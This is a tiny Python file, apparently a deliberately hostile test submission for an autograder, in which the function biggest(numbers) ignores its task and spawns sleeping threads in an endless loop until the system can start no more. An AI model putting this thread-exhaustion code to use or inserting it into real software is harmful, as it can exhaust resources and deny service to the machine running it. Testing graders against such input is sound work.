# Starts threads until no more can be started.
# points: 0..1
# %% answer: biggest
import threading
import time


def biggest(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
